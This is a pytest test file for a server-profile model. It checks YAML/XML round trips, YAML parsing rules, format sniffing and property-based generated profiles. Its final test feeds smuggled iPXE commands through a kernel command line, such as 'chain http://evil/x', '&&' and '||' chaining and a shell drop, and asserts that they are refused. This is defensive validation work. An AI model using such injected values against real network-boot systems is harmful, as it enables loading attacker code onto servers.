"""YAML ↔ XML round trips, sniffing, and the YAML reader's own rules."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from appliance.assets import asset_dir
from appliance.domain.profile import (
    MAX_DOCUMENT_BYTES,
    Profile,
    ProfileKind,
    from_dict,
    parse_document,
    parse_xml,
    parse_yaml,
    to_dict,
    to_xml,
    to_yaml,
)
from appliance.errors import ValidationError

EXAMPLES = sorted((asset_dir("profiles") / "examples").glob("*.yaml"))


def test_examples_exist() -> None:
    assert {p.name for p in EXAMPLES} >= {"web-01.yaml", "db-01.yaml", "kvm-host-template.yaml", "fc-01.yaml"}


@pytest.mark.parametrize("path", EXAMPLES, ids=lambda p: p.name)
def test_example_round_trips_losslessly(path: Path) -> None:
    p = parse_yaml(path.read_text(), source=path.name)
    assert parse_xml(to_xml(p)) == p
    assert parse_yaml(to_yaml(p)) == p
    assert from_dict(to_dict(p)) == p
    xml = to_xml(p)
    assert to_xml(parse_yaml(to_yaml(parse_xml(xml)))) == xml  # XML → YAML → XML
    assert to_yaml(parse_xml(to_xml(parse_yaml(to_yaml(p))))) == to_yaml(p)


def test_template_kind_survives_xml() -> None:
    t = parse_yaml((asset_dir("profiles") / "examples" / "kvm-host-template.yaml").read_text())
    assert t.kind is ProfileKind.TEMPLATE and t.is_template
    assert to_xml(t).splitlines()[1] == '<ServerProfileTemplate xmlns="urn:anvil:profile:v1">'
    assert parse_xml(to_xml(t)).kind is ProfileKind.TEMPLATE


def test_minimal_profile_round_trips_and_gets_defaults() -> None:
    p = parse_yaml("apiVersion: anvil/v1\nkind: ServerProfile\nmetadata: {name: m}\n")
    assert p.metadata.tenant == "default"
    assert p.spec.identity.nics == ()
    assert to_dict(p) == {
        "apiVersion": "anvil/v1",
        "kind": "ServerProfile",
        "metadata": {"name": "m", "tenant": "default"},
    }
    assert parse_xml(to_xml(p)) == p


def test_profiles_are_frozen() -> None:
    p = parse_yaml("apiVersion: anvil/v1\nkind: ServerProfile\nmetadata: {name: m}\n")
    with pytest.raises(Exception, match="frozen"):
        p.metadata.name = "n"  # type: ignore[misc]


def test_to_yaml_quotes_colon_values() -> None:
    text = to_yaml(parse_yaml((asset_dir("profiles") / "examples" / "fc-01.yaml").read_text()))
    assert 'wwpn: "20:00:00:25:b5:00:00:01"' in text


# ---- YAML reader -------------------------------------------------------------


def test_unquoted_wwn_that_yaml11_reads_as_sexagesimal_stays_a_string() -> None:
    text = "apiVersion: anvil/v1\nkind: ServerProfile\nmetadata: {name: m}\nspec:\n  identity:\n"
    text += "    hbas: [{name: fc0, wwpn: 20:00:00:25:35:00:00:01}]\n    nics: [{name: e0, mac: 52:54:00:12:34:56}]\n"
    p = parse_yaml(text)
    assert p.spec.identity.hbas[0].wwpn == "20:00:00:25:35:00:00:01"
    assert p.spec.identity.nics[0].mac == "52:54:00:12:34:56"


def test_yes_and_dates_stay_strings_in_labels() -> None:
    p = parse_yaml("apiVersion: anvil/v1\nkind: ServerProfile\nmetadata: {name: m, labels: {a: yes, b: 2026-11-01}}\n")
    assert p.metadata.labels == {"a": "yes", "b": "2026-11-01"}


def test_yaml_syntax_error_has_line() -> None:
    with pytest.raises(ValidationError) as info:
        parse_yaml("apiVersion: anvil/v1\nkind: ServerProfile\nmetadata: {name: [m\n")
    issue = info.value.issues[0]
    assert issue.reason.startswith("YAML syntax error") and issue.line is not None


@pytest.mark.parametrize(("text", "what"), [("- a\n- b\n", "a list"), ("hello\n", "a single value"), ("", "empty")])
def test_document_must_be_a_mapping(text: str, what: str) -> None:
    with pytest.raises(ValidationError, match=what):
        parse_yaml(text)


def test_duplicate_keys_are_rejected_with_line() -> None:
    with pytest.raises(ValidationError) as info:
        parse_yaml("apiVersion: anvil/v1\nkind: ServerProfile\nmetadata:\n  name: a\n  name: b\n")
    issue = info.value.issues[0]
    assert (issue.path, issue.reason, issue.line) == ("metadata.name", "appears twice (first on line 4)", 5)


def test_aliases_are_refused() -> None:
    text = "apiVersion: anvil/v1\nkind: ServerProfile\nmetadata: &m {name: a}\nspec: {bios: *m}\n"
    with pytest.raises(ValidationError, match="aliases") as info:
        parse_yaml(text)
    assert info.value.issues[0].line == 4


def test_yaml_over_one_mib_is_refused_before_parsing() -> None:
    text = "apiVersion: anvil/v1\n#" + "x" * MAX_DOCUMENT_BYTES + "\n"
    with pytest.raises(ValidationError, match=r"document is \d+ bytes; the limit is 1048576 bytes"):
        parse_yaml(text)


def test_json_is_read_as_yaml() -> None:
    p = parse_document(b'{"apiVersion": "anvil/v1", "kind": "ServerProfile", "metadata": {"name": "j"}}')
    assert p.metadata.name == "j"


# ---- sniffing ------------------------------------------------------------------


@pytest.fixture
def web() -> Profile:
    return parse_yaml((asset_dir("profiles") / "examples" / "web-01.yaml").read_text())


def test_sniffs_xml_by_leading_angle_bracket(web: Profile) -> None:
    assert parse_document("\n  " + to_xml(web)) == web
    assert parse_document(b"\xef\xbb\xbf" + to_xml(web).encode()) == web
    assert parse_document(to_xml(web).replace('"UTF-8"', '"UTF-16"').encode("utf-16")) == web


def test_sniffs_yaml_otherwise(web: Profile) -> None:
    assert parse_document(to_yaml(web).encode()) == web


def test_content_type_wins_over_sniffing(web: Profile) -> None:
    assert parse_document(to_xml(web), content_type="application/xml; charset=utf-8") == web
    with pytest.raises(ValidationError):
        parse_document(to_xml(web), content_type="application/yaml")
    assert parse_document(to_yaml(web), content_type="text/plain") == web


# ---- generated profiles ---------------------------------------------------------

_names = st.from_regex(r"[a-z][a-z0-9-]{0,10}[a-z0-9]", fullmatch=True)
_text = st.text(st.characters(blacklist_categories=("Cc", "Cs"), blacklist_characters="\ufffe\uffff"), max_size=12)
_mac = st.integers(0, 2**40).map(lambda n: "02:" + ":".join(f"{(n >> s) & 255:02x}" for s in (32, 24, 16, 8, 0)))
_vlan = st.integers(1, 4093)


@st.composite
def _nic(draw: st.DrawFn, i: int) -> dict[str, object]:
    nic: dict[str, object] = {"name": f"eth{i}"}
    if draw(st.booleans()):
        nic["mac"] = draw(st.one_of(_mac, st.just("pool:macs")))
    native = draw(st.one_of(st.none(), _vlan))
    tagged = draw(st.lists(_vlan, unique=True, max_size=4).filter(lambda t: native not in t))
    nic["vlans"] = {"tagged": tagged} | ({"native": native} if native else {})
    nic["pxe"] = draw(st.booleans())
    if draw(st.booleans()):
        nic["ipv4"] = f"10.{i}.0.{draw(st.integers(1, 254))}/24"
    return nic


@st.composite
def _profile(draw: st.DrawFn) -> dict[str, object]:
    nics = [draw(_nic(i)) for i in range(draw(st.integers(0, 3)))]
    macs = [n["mac"] for n in nics if "mac" in n and n["mac"] != "pool:macs"]
    if len(set(macs)) != len(macs):
        nics = [{k: v for k, v in n.items() if k != "mac"} for n in nics]
    sources: list[dict[str, object]] = [
        {"type": "local"},
        {"type": "iscsi", "portal": "10.0.0.5:3260", "target": "iqn.2026-11.io.anvil.san:x", "lun": 3},
        {"type": "fc", "targetWwpn": "50:06:01:60:3e:a0:12:34"},
        {"type": "image", "kernel": "lab/vmlinuz", "initrd": "lab/initrd.img"},
    ]
    source = draw(st.sampled_from(sources))
    if source["type"] == "image" and draw(st.booleans()):
        source = source | {"cmdline": draw(_text.filter(lambda t: not any(b in t for b in ("$", "#", "&&", "||"))))}
    spec: dict[str, object] = {
        "identity": {"nics": nics, "uuid": draw(st.one_of(st.uuids().map(str), st.just("pool:uuids")))},
        "boot": {"mode": draw(st.sampled_from(["uefi", "legacy"])), "source": source},
        "bios": draw(st.dictionaries(_text.filter(bool), st.one_of(_text, st.integers(), st.booleans()), max_size=3)),
    }
    if draw(st.booleans()):
        spec["requirements"] = {"minCpus": draw(st.integers(1, 512))}
    if draw(st.booleans()):
        spec["failover"] = {"domain": draw(_names), "policy": draw(st.sampled_from(["none", "restart", "n+1"]))}
    return {
        "apiVersion": "anvil/v1",
        "kind": draw(st.sampled_from(["ServerProfile", "ServerProfileTemplate"])),
        "metadata": {"name": draw(_names), "labels": draw(st.dictionaries(_text.filter(bool), _text, max_size=3))},
        "spec": spec,
    }


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(_profile())
def test_generated_profiles_round_trip(data: dict[str, object]) -> None:
    p = from_dict(data)
    assert parse_xml(to_xml(p)) == p
    assert parse_yaml(to_yaml(p)) == p
    assert from_dict(to_dict(p)) == p


@pytest.mark.parametrize(("cmdline", "why"), [
    ("quiet\nchain http://evil/x", "U+000A"), ("console=ttyS0\r", "U+000D"), ("a\tb", "U+0009"),
    ("root=${root-path}", '"$"'), ("quiet # chain http://evil/x", '"#"'), ("x && chain http://e/x", '"&&"'),
    ("x || shell", '"||"'),
])
def test_a_kernel_cmdline_iPXE_would_act_on_is_refused_at_import(cmdline: str, why: str) -> None:
    doc = {"apiVersion": "anvil/v1", "kind": "ServerProfile", "metadata": {"name": "p", "tenant": "t"},
           "spec": {"boot": {"source": {"type": "image", "kernel": "k", "initrd": "i", "cmdline": cmdline}}}}
    with pytest.raises(ValidationError) as err:
        from_dict(doc)
    assert err.value.issues[0].path == "spec.boot.source.cmdline" and why in err.value.issues[0].reason
